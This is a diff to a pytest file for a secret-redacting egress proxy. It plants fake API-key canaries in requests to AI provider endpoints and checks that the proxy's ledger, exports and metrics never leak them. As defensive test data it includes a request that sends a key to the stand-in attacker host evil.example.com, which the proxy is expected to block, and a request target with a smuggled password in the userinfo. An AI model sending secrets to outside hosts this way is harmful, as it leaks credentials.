@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import os
 import signal
+import socket
 import sqlite3
 import subprocess
 import threading
@@ -15,7 +16,7 @@ import pytest
 import requests
 
 from conftest import BINARY, TEST_ALLOWLIST, launch, launched
-from test_proxy import proxied_session
+from test_proxy import proxied_session, read_response
 
 # Unique canaries, one per place a client can put something sensitive.
 BODY_CANARY = "ghp_" + "LedgerBodyCanaryQ7mZ4xR9kT2vW6nB8pJ3"
@@ -23,7 +24,10 @@ PROSE_CANARY = "zebra-quartz-canary-prose-7731"
 AUTH_CANARY = "sk-proj-" + "LedgerAuthCanary" + "x7Q2" * 8
 XKEY_CANARY = "sk-ant-api03-" + "LedgerXKeyCanary" + "Zq8R" * 20
 QUERY_CANARY = "AIzaLedgerQueryCanary_0123456789abcde"
-CANARIES = [BODY_CANARY, PROSE_CANARY, AUTH_CANARY, XKEY_CANARY, QUERY_CANARY, "LedgerBodyCanary", "LedgerAuthCanary"]
+LABEL_CANARY = "fencelabelcanary-k4w9"  # a code fence's label and a Gemini executableCode language
+USERINFO_CANARY = "userinfo-canary-pw-5t8e"
+CANARIES = [BODY_CANARY, PROSE_CANARY, AUTH_CANARY, XKEY_CANARY, QUERY_CANARY, LABEL_CANARY, USERINFO_CANARY,
+            "LedgerBodyCanary", "LedgerAuthCanary"]
 
 
 def ledger(airlock, *args: str, check: bool = False) -> subprocess.CompletedProcess:
@@ -101,10 +105,23 @@ def test_no_canary_anywhere(airlock, standin):
                  json={"contents": [{"parts": [{"text": PROSE_CANARY}]}]}, timeout=20)
     session.post(f"https://other.test/admin?key={QUERY_CANARY}", json=body, headers={"Authorization": f"Bearer {AUTH_CANARY}"}, timeout=20)
     session.post("https://api.anthropic.com/v1/messages", data=PROSE_CANARY.encode(), headers={"Content-Type": "text/plain", "x-api-key": XKEY_CANARY}, timeout=20)
+    fenced = f"Why does this fail?\n```{LABEL_CANARY}\nlet total = compute(1, 2);\nprint(total);\nreturn total;\n```"
+    session.post("https://api.openai.com/v1/chat/completions", json=chat(fenced), timeout=20)
+    session.post("https://generativelanguage.googleapis.com/v1beta/models/gemini-test:generateContent",
+                 json={"contents": [{"role": "model", "parts": [{"executableCode": {"language": LABEL_CANARY, "code": "x = 1\ny = 2"}}]}]},
+                 timeout=20)
+    with socket.create_connection(("127.0.0.1", airlock.port), timeout=10) as sock:
+        sock.sendall(f"POST http://user:{USERINFO_CANARY}@api.openai.com/v1/chat/completions?key={QUERY_CANARY} HTTP/1.1\r\n"
+                     "Host: api.openai.com\r\nContent-Length: 2\r\n\r\n{}".encode())
+        assert read_response(sock).startswith(b"HTTP/1.1 400")  # userinfo in a request target is refused
     with pytest.raises(requests.exceptions.ProxyError):
         session.get(f"https://evil.example.com/?key={QUERY_CANARY}", timeout=20)
-    wait_for(lambda: len(records(airlock)) >= 6)
-    outputs = [ledger(airlock, *args).stdout for args in (
+    wait_for(lambda: len(records(airlock)) >= 9)
+    detectors = ledger(airlock, "stats", "--by", "detector").stdout
+    assert b"code-code" in detectors
+    metrics = requests.get(f"http://127.0.0.1:{airlock.admin_port}/metrics", timeout=5).content
+    assert b'detector="code-code"' in metrics
+    outputs = [metrics] + [ledger(airlock, *args).stdout for args in (
         ("query",), ("query", "--format", "json"), ("query", "--format", "csv"), ("tail", "-n", "50"),
         ("stats",), ("stats", "--by", "model"), ("stats", "--by", "detector"), ("export", "--format", "jsonl"),
         ("export", "--format", "csv"), ("checkpoint",), ("verify",))]
